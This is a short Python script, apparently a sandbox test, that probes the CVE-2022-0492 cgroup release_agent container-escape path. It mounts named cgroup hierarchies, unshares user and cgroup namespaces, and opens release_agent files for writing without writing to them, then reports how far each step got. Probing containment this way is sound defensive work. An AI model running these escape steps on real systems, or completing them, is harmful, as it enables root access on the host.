# CVE-2022-0492: the way to a cgroup v1 hierarchy whose release_agent the kernel would run as root of the host. It opens
# that and does not write. Says how far each way came.
import ctypes, errno, glob, json, os

libc = ctypes.CDLL(None, use_errno=True)
found = {}


def attempt(name, act):
    ctypes.set_errno(0)
    try:
        result = act()
        found[name] = "OK" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    except OSError as error:
        found[name] = errno.errorcode.get(error.errno, "?")


os.makedirs("cgroup", exist_ok=True)
# A hierarchy of our own, in namespaces of our own where they can be had.
attempt("named hierarchy", lambda: libc.mount(b"x", b"cgroup", b"cgroup", 0, b"none,name=oncebox-attack"))
attempt("release_agent", lambda: os.close(os.open("cgroup/release_agent", os.O_WRONLY)) or 0)
libc.umount2(b"cgroup", 2)
if found["named hierarchy"] != "OK":
    attempt("user and cgroup namespace", lambda: libc.unshare(0x10000000 | 0x2000000 | 0x20000))
    attempt("named hierarchy there", lambda: libc.mount(b"x", b"cgroup", b"cgroup", 0, b"none,name=oncebox-attack"))
    attempt("cgroup2 there", lambda: libc.mount(b"x", b"cgroup", b"cgroup2", 0, None))
    for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + ["/sys/fs/cgroup/cgroup.procs"]:
        attempt(path, lambda: os.close(os.open(path, os.O_WRONLY)) or 0)
print(json.dumps(found))
